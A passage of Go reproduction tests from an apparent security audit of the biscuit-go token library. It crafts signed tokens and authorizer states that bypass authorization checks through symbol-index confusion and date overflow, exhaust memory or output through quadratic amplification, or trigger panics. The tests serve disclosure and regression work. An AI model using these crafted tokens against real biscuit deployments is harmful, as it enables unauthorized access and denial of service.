		t.Errorf("same check + same stored policies, different order of supply: %v (check first) vs %v (policies first)", outA, outB)
	}
}

// Finding 3. LoadPolicies accepts facts (and rules) whose string index no symbol resolves yet (the repair
// 0bf869b only covers token blocks). The index is given a meaning by whatever string is interned next, so
// permuting two AddFact calls changes the outcome.
func TestC12_LoadPoliciesDanglingSymbolDependsOnFactOrder(t *testing.T) {
	b, pub := c12Token(t)

	u64 := func(v uint64) *uint64 { return &v }
	str := func(i uint64) *pb.TermV2 { return &pb.TermV2{Content: &pb.TermV2_String_{String_: i}} }
	variable := func(i uint32) *pb.TermV2 { return &pb.TermV2{Content: &pb.TermV2_Variable{Variable: i}} }
	const (
		symUser  = 10 // default symbol "user"
		symOwner = 7  // default symbol "owner"
		symQuery = 27 // default symbol "query"
	)
	allow := pb.Policy_Allow
	stored, err := proto.Marshal(&pb.AuthorizerPolicies{
		Version: proto.Uint32(3),
		Symbols: []string{"u"}, // index 1024, used as the variable $u
		Facts: []*pb.FactV2{
			// user(#1025): index 1025 is not (yet) a symbol
			{Predicate: &pb.PredicateV2{Name: u64(symUser), Terms: []*pb.TermV2{str(1025)}}},
		},
		Policies: []*pb.Policy{{
			Kind: &allow,
			// allow if user($u), owner($u)
			Queries: []*pb.RuleV2{{
				Head: &pb.PredicateV2{Name: u64(symQuery)},
				Body: []*pb.PredicateV2{
					{Name: u64(symUser), Terms: []*pb.TermV2{variable(1024)}},
					{Name: u64(symOwner), Terms: []*pb.TermV2{variable(1024)}},
				},
			}},
		}},
	})
	if err != nil {
		t.Fatal(err)
	}

	f1 := Fact{Predicate{Name: "owner", IDs: []Term{String("alice")}}}
	f2 := Fact{Predicate{Name: "member", IDs: []Term{String("bob")}}}

	run := func(facts ...Fact) (string, bool) {
		v := c12Authorizer(t, b, pub)
		if err := v.LoadPolicies(stored); err != nil {
			// a library that refuses the dangling index does not have the defect
			return "", false
		}
		for _, f := range facts {
			v.AddFact(f)
		}
		return c12Class(v.Authorize()), true
	}

	out12, ok := run(f1, f2)
	if !ok {
		return
	}
	out21, _ := run(f2, f1)
	if out12 != out21 {
		t.Errorf("permuting two AddFact calls changes the outcome: %q vs %q", out12, out21)
	}
}

// Borderline (the first call ends with a run-limit error, so the sequence is arguably outside the
// "error-free fragment"): Authorize keeps the facts derived by an evaluation that hit the iteration limit,
// so simply calling Authorize again resumes the fixpoint and the outcome changes from error to allow.
func TestC12_SecondAuthorizeResumesAfterIterationLimit(t *testing.T) {
	b, pub := c12Token(t)
	v := c12Authorizer(t, b, pub, datalog.WithMaxIterations(5))

	const n = 12
	v.AddFact(Fact{Predicate{Name: "reach", IDs: []Term{Integer(0)}}})
	for i := 0; i < n; i++ {
		v.AddFact(Fact{Predicate{Name: "edge", IDs: []Term{Integer(i), Integer(i + 1)}}})
	}
	v.AddRule(Rule{
		Head: Predicate{Name: "reach", IDs: []Term{Variable("b")}},
		Body: []Predicate{
			{Name: "reach", IDs: []Term{Variable("a")}},
			{Name: "edge", IDs: []Term{Variable("a"), Variable("b")}},
		},
	})
	v.AddPolicy(Policy{Kind: PolicyKindAllow, Queries: []Rule{{
		Head: Predicate{Name: "allow"},
		Body: []Predicate{{Name: "reach", IDs: []Term{Integer(n)}}},
	}}})

	first := c12Class(v.Authorize())
	for i := 2; i <= 4; i++ {
		if got := c12Class(v.Authorize()); got != first {
			t.Errorf("Authorize call #%d returned %q, the first call returned %q", i, got, first)
			return
		}
	}
}
