// Belongs to the repository root directory (package biscuit, internal test: it uses no unexported
// identifiers but needs the pb package to craft signed tokens with adversarial content).
//
//	export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
//	cp demo_test.go <repo>/c10_demo_test.go && go test -run 'TestC10' -count=1 -v . | grep -av '^expression error'
package biscuit

import (
	"crypto/ed25519"
	"crypto/rand"
	"encoding/binary"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

// c10Sign builds a schema-valid token out of the given blocks, validly signed under root.
func c10Sign(t testing.TB, root ed25519.PrivateKey, blocks ...*pb.Block) []byte {
	cur := root
	var signed []*pb.SignedBlock
	alg := pb.PublicKey_Ed25519
	for _, b := range blocks {
		data, err := proto.Marshal(b)
		if err != nil {
			t.Fatal(err)
		}
		pub, priv, _ := ed25519.GenerateKey(rand.Reader)
		a := make([]byte, 4)
		binary.LittleEndian.PutUint32(a, uint32(alg))
		toSign := append(append(append([]byte{}, data...), a...), pub...)
		signed = append(signed, &pb.SignedBlock{
			Block:     data,
			NextKey:   &pb.PublicKey{Algorithm: &alg, Key: pub},
			Signature: ed25519.Sign(cur, toSign),
		})
		cur = priv
	}
	out, err := proto.Marshal(&pb.Biscuit{
		Authority: signed[0],
		Blocks:    signed[1:],
		Proof:     &pb.Proof{Content: &pb.Proof_NextSecret{NextSecret: cur.Seed()}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func c10Str(i uint64) *pb.TermV2 { return &pb.TermV2{Content: &pb.TermV2_String_{String_: i}} }
func c10Var(i uint32) *pb.TermV2 { return &pb.TermV2{Content: &pb.TermV2_Variable{Variable: i}} }

// a check whose body names one long symbol N times: 3 bytes on the wire per mention, L bytes each
// when printed
func c10AmplifyingBlock(L, N int) *pb.Block {
	name := uint64(1024)
	v3 := uint32(3)
	body := make([]*pb.PredicateV2, N)
	for i := range body {
		body[i] = &pb.PredicateV2{Name: &name, Terms: []*pb.TermV2{c10Str(1025)}}
	}
	return &pb.Block{
		Symbols:  []string{"p", strings.Repeat("a", L)},
		Version:  &v3,
		ChecksV2: []*pb.CheckV2{{Queries: []*pb.RuleV2{{Head: &pb.PredicateV2{Name: &name}, Body: body}}}},
	}
}

// Finding 1a: printing a token. Output size is quadratic in the token size (1 MB token -> ~25 GB).
func TestC10_PrintAmplification(t *testing.T) {
	_, priv, _ := ed25519.GenerateKey(rand.Reader)
	data := c10Sign(t, priv, c10AmplifyingBlock(16<<10, 1000))
	b, err := Unmarshal(data)
	if err != nil {
		t.Fatal(err)
	}
	s := b.String()
	t.Logf("token %d bytes, String() %d bytes (x%d)", len(data), len(s), len(s)/len(data))
	if len(s) > 64*len(data) {
		t.Errorf("String() of a %d byte token is %d bytes (x%d): grows with the square of the token size",
			len(data), len(s), len(s)/len(data))
	}
}

// Finding 1b: the same amplification on the authorization path, default options: the text of the
// error Authorize returns for a failed check. Any holder of a valid token can append such a block.
func TestC10_AuthorizeErrorAmplification(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	v3 := uint32(3)
	data := c10Sign(t, priv, &pb.Block{Version: &v3}, c10AmplifyingBlock(16<<10, 1000))
	b, err := Unmarshal(data)
	if err != nil {
		t.Fatal(err)
	}
	a, err := b.Authorizer(pub) // default limits
	if err != nil {
		t.Fatal(err)
	}
	a.AddPolicy(DefaultAllowPolicy)
	err = a.Authorize()
	if err == nil {
		t.Fatal("expected the check to fail")
	}
	n := len(err.Error())
	t.Logf("token %d bytes, Authorize error %d bytes (x%d)", len(data), n, n/len(data))
	if n > 64*len(data) {
		t.Errorf("Authorize() on a %d byte token builds a %d byte error (x%d): grows with the square of the token size",
			len(data), n, n/len(data))
	}
}

// Finding 2: every intermediate result of a string "+" is interned in the authorizer's symbol table and
// stays there: x+x+x+...+x (N times) on an L byte string keeps L*N*N/2 bytes alive. No limit of
// World.Run applies (one fact, one rule, two iterations, no timeout with a generous deadline).
func TestC10_StringAddInterning(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	const L, N = 2000, 400
	sName, tName := uint64(1024), uint64(1026)
	add, eq := pb.OpBinary_Add, pb.OpBinary_Equal
	v3 := uint32(3)
	ops := []*pb.Op{{Content: &pb.Op_Value{Value: c10Var(0)}}}
	for i := 0; i < N; i++ {
		ops = append(ops,
			&pb.Op{Content: &pb.Op_Value{Value: c10Var(0)}},
			&pb.Op{Content: &pb.Op_Binary{Binary: &pb.OpBinary{Kind: &add}}})
	}
	ops = append(ops,
		&pb.Op{Content: &pb.Op_Value{Value: c10Var(0)}},
		&pb.Op{Content: &pb.Op_Binary{Binary: &pb.OpBinary{Kind: &eq}}})
	data := c10Sign(t, priv, &pb.Block{
		Symbols: []string{"s", strings.Repeat("a", L), "t"},
		Version: &v3,
		FactsV2: []*pb.FactV2{{Predicate: &pb.PredicateV2{Name: &sName, Terms: []*pb.TermV2{c10Str(1025)}}}},
		RulesV2: []*pb.RuleV2{{ // t() <- s($0), $0 + $0 + ... + $0 == $0
			Head:        &pb.PredicateV2{Name: &tName},
			Body:        []*pb.PredicateV2{{Name: &sName, Terms: []*pb.TermV2{c10Var(0)}}},
			Expressions: []*pb.ExpressionV2{{Ops: ops}},
		}},
	})
	b, err := Unmarshal(data)
	if err != nil {
		t.Fatal(err)
	}
	a, err := b.Authorizer(pub, WithWorldOptions(datalog.WithMaxDuration(30*time.Second)))
	if err != nil {
		t.Fatal(err)
	}
	a.AddPolicy(DefaultAllowPolicy)
	var m0, m1 runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&m0)
	start := time.Now()
	err = a.Authorize()
	elapsed := time.Since(start)
	runtime.GC()
	runtime.ReadMemStats(&m1)
	live := (int64(m1.HeapAlloc) - int64(m0.HeapAlloc)) >> 20
	t.Logf("token %d bytes, Authorize: err=%v in %v, %d MB still alive in the authorizer", len(data), err, elapsed, live)
	if live > 32 {
		t.Errorf("a %d byte token leaves %d MB alive in the authorizer's symbol table (quadratic in the token size)", len(data), live)
	}
	runtime.KeepAlive(a)
}

// Finding 3 (datalog package API, not reached through the token API): World.Query compares terms with
// != on interface values: a term of a non comparable type (Bytes, Set) panics. Same class as the
// repaired Set.Equal/Intersect/Union.
func TestC10_WorldQueryUncomparableTerms(t *testing.T) {
	for _, term := range []datalog.Term{datalog.Bytes{1}, datalog.Set{datalog.Integer(1)}} {
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Errorf("World.Query(%v) panicked: %v", term, r)
				}
			}()
			w := datalog.NewWorld()
			w.AddFact(datalog.Fact{Predicate: datalog.Predicate{Name: 1, Terms: []datalog.Term{term}}})
			_ = w.Query(datalog.Predicate{Name: 1, Terms: []datalog.Term{term}})
		}()
	}
}

// Finding 4 (literal reading of "authorization with any authorizer content"): the zero value of the
// exported types UnaryOp / BinaryOp in a check or policy panics inside Authorize.
func TestC10_ZeroValueOpInAuthorizerContent(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	v3 := uint32(3)
	b, err := Unmarshal(c10Sign(t, priv, &pb.Block{Version: &v3}))
	if err != nil {
		t.Fatal(err)
	}
	for name, op := range map[string]Op{"UnaryOp": UnaryOp(0), "BinaryOp": BinaryOp(0)} {
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Errorf("%s zero value: Authorize panicked: %v", name, r)
				}
			}()
			a, err := b.Authorizer(pub, WithWorldOptions(datalog.WithMaxDuration(10*time.Second)))
			if err != nil {
				t.Fatal(err)
			}
			a.AddCheck(Check{Queries: []Rule{{Head: Predicate{Name: "q"},
				Expressions: []Expression{{Value{Bool(true)}, Value{Bool(true)}, op}}}}})
			a.AddPolicy(DefaultAllowPolicy)
			_ = a.Authorize()
		}()
	}
}

// Candidate 5 (32-bit platforms only; could NOT be run in the audit environment, which executes amd64
// binaries only): SymbolTable.Var converts the uint32 variable index with int(v); where int is 32 bits
// an index >= 2^31 is negative and indexes DEFAULT_SYMBOLS. Str got an unsigned comparison, Var did not.
func TestC10_VarIndex32bit(t *testing.T) {
	if strconv.IntSize != 32 {
		t.Skip("only meaningful where int is 32 bits (GOARCH=386, arm, mips)")
	}
	_, priv, _ := ed25519.GenerateKey(rand.Reader)
	name := uint64(0)
	v3 := uint32(3)
	b, err := Unmarshal(c10Sign(t, priv, &pb.Block{
		Version: &v3,
		FactsV2: []*pb.FactV2{{Predicate: &pb.PredicateV2{Name: &name, Terms: []*pb.TermV2{c10Var(0x80000000)}}}},
	}))
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("String() panicked: %v", r)
		}
	}()
	_ = b.String()
}
