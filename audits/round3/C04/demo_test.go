// Reproducing tests for the C04 audit (round 3).
//
// Belongs to the repository root directory (package biscuit): copy it there as demo_test.go and run
//
//	GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -run 'TestC04Demo' -count=1 .
//
// Every test FAILS on the unchanged code (reports through t.Errorf) exactly when the violation it
// describes is present. Only the exported API is used.
package biscuit

import (
	"crypto/ed25519"
	"crypto/rand"
	"errors"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
)

func c04Opts() AuthorizerOption {
	return WithWorldOptions(
		datalog.WithMaxDuration(30*time.Second),
		datalog.WithMaxFacts(100000),
		datalog.WithMaxIterations(10000),
	)
}

func c04Token(t *testing.T, build func(b Builder)) (*Biscuit, ed25519.PublicKey) {
	t.Helper()
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	b := NewBuilder(priv)
	if build != nil {
		build(b)
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	return tok, pub
}

func c04Pred(name string, ids ...Term) Predicate { return Predicate{Name: name, IDs: ids} }

// Finding 1a. A fact given to the authorizer with AddFact is silently turned into another fact by a
// later LoadPolicies: loadPoliciesV2 replaces the authorizer's symbol table but keeps the world, whose
// facts hold indexes into the old table.
//
// Authorizer contents: fact user("alice"); policy  allow if user("mallory").
// Decision procedure: no policy matches -> ErrNoMatchingPolicy. Library: nil (authorized).
func TestC04Demo_LoadPoliciesReinterpretsEarlierFacts(t *testing.T) {
	tok, pub := c04Token(t, nil)

	// the policy set is produced by the library itself, from an honest authorizer
	src, err := tok.Authorizer(pub, c04Opts())
	if err != nil {
		t.Fatal(err)
	}
	src.AddPolicy(Policy{Kind: PolicyKindAllow, Queries: []Rule{{
		Head: c04Pred("allow"),
		Body: []Predicate{c04Pred("user", String("mallory"))},
	}}})
	saved, err := src.SerializePolicies()
	if err != nil {
		t.Fatal(err)
	}

	a, err := tok.Authorizer(pub, c04Opts())
	if err != nil {
		t.Fatal(err)
	}
	a.AddFact(Fact{c04Pred("user", String("alice"))}) // ambient fact of this request
	if err := a.LoadPolicies(saved); err != nil {
		t.Fatal(err)
	}
	err = a.Authorize()
	if !errors.Is(err, ErrNoMatchingPolicy) {
		t.Errorf("authorizer holds user(\"alice\") and 'allow if user(\"mallory\")': expected ErrNoMatchingPolicy, got %v\n%s", err, a.PrintWorld())
	}
}

// Finding 1b. Same call sequence, the other direction: a check added before LoadPolicies is never
// evaluated (v.checks is replaced), while facts and rules added before it are kept.
//
// Authorizer contents: check if admin(true); policy allow if true. No admin fact anywhere.
// Decision procedure: the check fails -> verification failure. Library: nil (authorized).
func TestC04Demo_LoadPoliciesDropsEarlierChecks(t *testing.T) {
	tok, pub := c04Token(t, nil)
	src, err := tok.Authorizer(pub, c04Opts())
	if err != nil {
		t.Fatal(err)
	}
	src.AddPolicy(DefaultAllowPolicy)
	saved, err := src.SerializePolicies()
	if err != nil {
		t.Fatal(err)
	}

	a, err := tok.Authorizer(pub, c04Opts())
	if err != nil {
		t.Fatal(err)
	}
	a.AddCheck(Check{Queries: []Rule{{Head: c04Pred("q"), Body: []Predicate{c04Pred("admin", Bool(true))}}}})
	if err := a.LoadPolicies(saved); err != nil {
		t.Fatal(err)
	}
	if err := a.Authorize(); err == nil {
		t.Errorf("the authorizer's check 'check if admin(true)' cannot be satisfied, yet Authorize returned nil")
	}
}

// Finding 2 (mistake in repair 7b6123e). Append only compares the LENGTH of the table a block was built
// against with the length of the token's table. A block built with tokenA.CreateBlock() and appended to a
// token B whose table has the same length is accepted, and its indexes now denote B's symbols: the
// attenuation 'check if resource("fileA")' becomes 'check if resource("fileB")'.
//
// The block builder was given: check if resource("fileA"). Token B only holds resource("fileB").
// Decision procedure on what the block's author wrote: the check fails. Library: nil (authorized).
func TestC04Demo_AppendBlockBuiltForSiblingTokenOfSameTableLength(t *testing.T) {
	tokA, _ := c04Token(t, func(b Builder) { b.AddAuthorityFact(Fact{c04Pred("resource", String("fileA"))}) })
	tokB, pubB := c04Token(t, func(b Builder) { b.AddAuthorityFact(Fact{c04Pred("resource", String("fileB"))}) })

	bb := tokA.CreateBlock()
	if err := bb.AddCheck(Check{Queries: []Rule{{Head: c04Pred("q"), Body: []Predicate{c04Pred("resource", String("fileA"))}}}}); err != nil {
		t.Fatal(err)
	}

	tok, err := tokB.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Logf("Append refused the block: %v (no violation)", err)
		return
	}
	a, err := tok.Authorizer(pubB, c04Opts())
	if err != nil {
		t.Fatal(err)
	}
	a.AddPolicy(DefaultAllowPolicy)
	if err := a.Authorize(); err == nil {
		t.Errorf("block check 'resource(\"fileA\")' accepted on a token that only holds resource(\"fileB\"); token as the library reads it:%s", tok.String())
	}
}

// Finding 3 (boundary of the term domain). Date.convert turns a time before 1970 into a huge unsigned
// number (uint64 of a negative Unix time), so every ordering comparison on it is inverted. The zero
// time.Time{} is the realistic instance: an unset expiry never expires.
func TestC04Demo_DateBeforeEpochComparesAsFarFuture(t *testing.T) {
	tok, pub := c04Token(t, nil)

	// (a) 1969-12-31 < 2030-01-01 must hold
	a, err := tok.Authorizer(pub, c04Opts())
	if err != nil {
		t.Fatal(err)
	}
	a.AddFact(Fact{c04Pred("time", Date(time.Date(1969, 12, 31, 0, 0, 0, 0, time.UTC)))})
	a.AddCheck(Check{Queries: []Rule{{Head: c04Pred("q"), Body: []Predicate{c04Pred("time", Variable("t"))},
		Expressions: []Expression{{Value{Variable("t")}, Value{Date(time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC))}, BinaryLessThan}}}}})
	a.AddPolicy(DefaultAllowPolicy)
	if err := a.Authorize(); err != nil {
		t.Errorf("(a) 1969-12-31 < 2030-01-01 evaluated to false: %v", err)
	}

	// (b) expiry left at the zero time.Time: now <= 0001-01-01 must not hold
	var expiry time.Time
	b, err := tok.Authorizer(pub, c04Opts())
	if err != nil {
		t.Fatal(err)
	}
	b.AddFact(Fact{c04Pred("time", Date(time.Now()))})
	b.AddCheck(Check{Queries: []Rule{{Head: c04Pred("q"), Body: []Predicate{c04Pred("time", Variable("t"))},
		Expressions: []Expression{{Value{Variable("t")}, Value{Date(expiry)}, BinaryLessOrEqual}}}}})
	b.AddPolicy(DefaultAllowPolicy)
	if err := b.Authorize(); err == nil {
		t.Errorf("(b) 'now <= 0001-01-01' evaluated to true: a zero expiry never expires")
	}
}

// Finding 4 (minor, input outside the two defined kinds). A policy whose Kind is neither allow nor deny
// and whose query is satisfied is skipped instead of ending the search: the first matching policy is not
// an allow policy, yet authorization succeeds through a later one.
func TestC04Demo_UnknownPolicyKindIsSkipped(t *testing.T) {
	tok, pub := c04Token(t, nil)
	a, err := tok.Authorizer(pub, c04Opts())
	if err != nil {
		t.Fatal(err)
	}
	a.AddPolicy(Policy{Kind: 2, Queries: []Rule{{Head: c04Pred("x")}}}) // matches (empty body)
	a.AddPolicy(DefaultAllowPolicy)
	if err := a.Authorize(); err == nil {
		t.Errorf("the first matching policy is not an allow policy, yet Authorize returned nil")
	}
}

// Finding 5 (low; malformed token). Unmarshal and New build the token's symbol table with
// SymbolTable.Extend, which drops a symbol that is already present instead of refusing the block
// (only New/Append check IsDisjoint, and only against the previous table, not inside the block's own
// list or against the default symbols). Every later symbol of that block moves down by one, so the
// block's indexes are not read positionally: with symbols ["fileA","fileA","fileB"] index 1025 is the
// second "fileA" on the wire, but the library reads it as "fileB".
//
// Wire content: resource(#1025) = resource("fileA"); authorizer: allow if resource("fileB").
// Positional reading: no policy matches (or the token is refused). Library: nil (authorized).
func TestC04Demo_RepeatedSymbolShiftsTheIndexesOfTheBlock(t *testing.T) {
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	syms := datalog.SymbolTable{"fileA", "fileA", "fileB"}
	facts := datalog.FactSet{{Predicate: datalog.Predicate{
		Name:  datalog.String(2), // "resource"
		Terms: []datalog.Term{datalog.String(1025)},
	}}}
	tok, err := New(rand.Reader, priv, &datalog.SymbolTable{}, &Block{symbols: &syms, facts: &facts, version: MaxSchemaVersion})
	if err != nil {
		t.Logf("New refused the block: %v (no violation)", err)
		return
	}
	ser, err := tok.Serialize()
	if err != nil {
		t.Fatal(err)
	}
	tok, err = Unmarshal(ser)
	if err != nil {
		t.Logf("Unmarshal refused the token: %v (no violation)", err)
		return
	}
	a, err := tok.Authorizer(pub, c04Opts())
	if err != nil {
		t.Fatal(err)
	}
	a.AddPolicy(Policy{Kind: PolicyKindAllow, Queries: []Rule{{
		Head: c04Pred("allow"),
		Body: []Predicate{c04Pred("resource", String("fileB"))},
	}}})
	if err := a.Authorize(); err == nil {
		t.Errorf("wire index 1025 is the second \"fileA\" of the block's symbol list, the library read it as \"fileB\" and authorized")
	}
}
