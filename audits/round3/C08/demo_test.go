// C08 demo tests. Belongs to the repository ROOT directory (package biscuit), e.g. copy to
// <repo>/c08_demo_test.go and run:
//   GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -run TestC08Demo -count=1 .
// Both tests FAIL on the unchanged code (the foreign block is accepted and reinterpreted) and pass once
// Append rejects the block (any error) or stores exactly what the caller wrote.
package biscuit

import (
	"crypto/ed25519"
	"crypto/rand"
	"strings"
	"testing"
)

func c08DemoFact(name string, vals ...string) Fact {
	ids := make([]Term, len(vals))
	for i, v := range vals {
		ids[i] = String(v)
	}
	return Fact{Predicate{Name: name, IDs: ids}}
}

func c08DemoParent(t *testing.T) *Biscuit {
	_, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := NewBuilder(priv)
	if err := b.AddAuthorityFact(c08DemoFact("right", "file1")); err != nil {
		t.Fatal(err)
	}
	parent, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	return parent
}

func c08DemoChild(t *testing.T, parent *Biscuit, owners ...string) *Biscuit {
	bb := parent.CreateBlock()
	for _, o := range owners {
		if err := bb.AddFact(c08DemoFact("owner", o)); err != nil {
			t.Fatal(err)
		}
	}
	tok, err := parent.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	return tok
}

// Variant 1: siblings A = P+["alice"] and B = P+["bob"] have symbol tables of the SAME LENGTH but
// different content. A block made with A.CreateBlock() (it even brings a new symbol) is accepted by
// B.Append: the length-only test of biscuit.go:177-180 passes, and member("alice") becomes member("bob").
func TestC08Demo_SiblingBuilderSameLengthTable(t *testing.T) {
	parent := c08DemoParent(t)
	A := c08DemoChild(t, parent, "alice")
	B := c08DemoChild(t, parent, "bob")
	beforeB := B.String()

	bbA := A.CreateBlock()
	if err := bbA.AddFact(c08DemoFact("member", "alice")); err != nil {
		t.Fatal(err)
	}
	if err := bbA.AddFact(c08DemoFact("member", "fresh")); err != nil {
		t.Fatal(err)
	}
	blk := bbA.Build()

	B2, err := B.Append(rand.Reader, blk)
	if B.String() != beforeB {
		t.Errorf("B itself changed")
	}
	if err != nil {
		return // rejected: fine
	}
	s := B2.String()
	if !strings.Contains(s, `member("alice")`) {
		t.Errorf("B2 lacks member(\"alice\"), which its caller put in the block:\n%s", s)
	}
	if strings.Contains(s, `member("bob")`) {
		t.Errorf("B2 contains member(\"bob\"), which nobody put in any block")
	}
	if _, err := B2.GetBlockID(c08DemoFact("member", "bob")); err == nil {
		t.Errorf("GetBlockID finds member(\"bob\") in B2")
	}
	ser, err := B2.Serialize()
	if err != nil {
		t.Fatal(err)
	}
	u, err := Unmarshal(ser)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(u.String(), `member("bob")`) {
		t.Errorf("the serialized form of B2 contains member(\"bob\") as well")
	}
}

// Variant 2: the block brings no new symbol and was built on a SHORTER table than the target's
// (A has 2 symbols, B has 3): the relaxation "base != len is fine when the block has no symbols of its
// own" (biscuit.go:178) assumes the target extends the builder's table, which is not verified.
// The check "check if user("alice")" written for A lands in B2 as "check if user("bob")".
func TestC08Demo_ForeignBuilderShorterTableNoNewSymbols(t *testing.T) {
	parent := c08DemoParent(t)
	A := c08DemoChild(t, parent, "alice")
	B := c08DemoChild(t, parent, "bob", "dave")

	bbA := A.CreateBlock()
	// "query" and "user" are default symbols, "alice" is symbol 1025 of A: the block has no symbols of its own
	if err := bbA.AddCheck(Check{Queries: []Rule{{
		Head: Predicate{Name: "query"},
		Body: []Predicate{{Name: "user", IDs: []Term{String("alice")}}},
	}}}); err != nil {
		t.Fatal(err)
	}
	B2, err := B.Append(rand.Reader, bbA.Build())
	if err != nil {
		return // rejected: fine
	}
	s := B2.String()
	if !strings.Contains(s, `check if user("alice")`) {
		t.Errorf("B2 lacks the check its caller wrote")
	}
	if strings.Contains(s, `check if user("bob")`) {
		t.Errorf("B2 holds check if user(\"bob\"), which nobody wrote:\n%v", B2.Code())
	}
}
