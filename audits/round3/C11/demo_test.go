// Package directory: repository root (package biscuit). Copy as <worktree>/c11_demo_test.go and run
//   GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -count=1 -run TestC11 -v .
//
// BORDERLINE demonstrations (see findings.md, section B1): the limits given to an authorizer bound each
// call separately, the partial result of a call that hit a limit stays in the authorizer, so that
//  - repeating Authorize() ends in success for a program that needs more iterations than configured,
//  - Query() after such a failed Authorize() answers without error from the unfinished evaluation.
// Both tests FAIL on the unchanged tree.
package biscuit

import (
	"crypto/ed25519"
	"crypto/rand"
	"errors"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
)

func c11ChainToken(t *testing.T, links int) (*Biscuit, ed25519.PublicKey) {
	t.Helper()
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	b := NewBuilder(priv)
	for i := 0; i < links; i++ {
		if err := b.AddAuthorityFact(Fact{Predicate{Name: "link", IDs: []Term{Integer(i), Integer(i + 1)}}}); err != nil {
			t.Fatal(err)
		}
	}
	rules := []Rule{
		{Head: Predicate{Name: "path", IDs: []Term{Variable("x"), Variable("y")}},
			Body: []Predicate{{Name: "link", IDs: []Term{Variable("x"), Variable("y")}}}},
		{Head: Predicate{Name: "path", IDs: []Term{Variable("x"), Variable("z")}},
			Body: []Predicate{
				{Name: "path", IDs: []Term{Variable("x"), Variable("y")}},
				{Name: "link", IDs: []Term{Variable("y"), Variable("z")}},
			}},
	}
	for _, r := range rules {
		if err := b.AddAuthorityRule(r); err != nil {
			t.Fatal(err)
		}
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	return tok, pub
}

// The token's program needs 10 productive iterations (+1 to see the fixpoint); the authorizer is
// created with a limit of 4 iterations (and a generous deadline, so that nothing here is a timeout).
func TestC11RepeatedAuthorizeGetsPastTheIterationLimit(t *testing.T) {
	tok, pub := c11ChainToken(t, 10)
	a, err := tok.Authorizer(pub, WithWorldOptions(
		datalog.WithMaxDuration(30*time.Second), datalog.WithMaxIterations(4)))
	if err != nil {
		t.Fatal(err)
	}
	// allow only if the far end of the chain is reachable: needs the whole fixpoint
	a.AddPolicy(Policy{Kind: PolicyKindAllow, Queries: []Rule{{
		Head: Predicate{Name: "allow"},
		Body: []Predicate{{Name: "path", IDs: []Term{Integer(0), Integer(10)}}},
	}}})

	first := a.Authorize()
	if !errors.Is(first, datalog.ErrWorldRunLimitMaxIterations) {
		t.Fatalf("first call: expected the iteration limit, got %v", first)
	}
	for i := 2; i <= 5; i++ {
		if err := a.Authorize(); err == nil {
			t.Errorf("call #%d of Authorize() succeeded: an authorizer limited to 4 iterations accepted a "+
				"program that needs 11 (the facts derived by the failed calls were kept)", i)
			return
		}
	}
}

func TestC11QueryAfterLimitErrorAnswersFromUnfinishedEvaluation(t *testing.T) {
	tok, pub := c11ChainToken(t, 10)
	a, err := tok.Authorizer(pub, WithWorldOptions(
		datalog.WithMaxDuration(30*time.Second), datalog.WithMaxIterations(4)))
	if err != nil {
		t.Fatal(err)
	}
	a.AddPolicy(DefaultAllowPolicy)
	if err := a.Authorize(); !errors.Is(err, datalog.ErrWorldRunLimitMaxIterations) {
		t.Fatalf("expected the iteration limit, got %v", err)
	}
	res, err := a.Query(Rule{
		Head: Predicate{Name: "reach", IDs: []Term{Variable("x")}},
		Body: []Predicate{{Name: "path", IDs: []Term{Integer(0), Variable("x")}}},
	})
	if err == nil && len(res) != 10 {
		t.Errorf("Query() after a limit error returned %d of the 10 answers and no error "+
			"(silent truncation: the evaluation it reads from never reached its fixpoint)", len(res))
	}
}
