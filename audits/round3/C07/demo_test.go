package biscuit

// demo_test.go for property C07 -- belongs to the module root directory (package biscuit, next to biscuit.go).
// Every test fails on the unchanged library; run: go test -run TestC07 .

import (
	"crypto/ed25519"
	"crypto/rand"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

// ---------------------------------------------------------------------------
// independent reader: decodes the serialized token with the protobuf schema only and resolves symbols
// by the published rules (default table below 1024, per-block tables concatenated in block order,
// a block may only use its own and earlier tables).
// ---------------------------------------------------------------------------

type wireBlock struct {
	facts, rules, checks []string
	context              string
	version              uint32
	unresolved           bool
}

func wireDecode(t *testing.T, ser []byte) []wireBlock {
	t.Helper()
	c := new(pb.Biscuit)
	if err := proto.Unmarshal(ser, c); err != nil {
		t.Fatalf("independent reader: %v", err)
	}
	var table []string
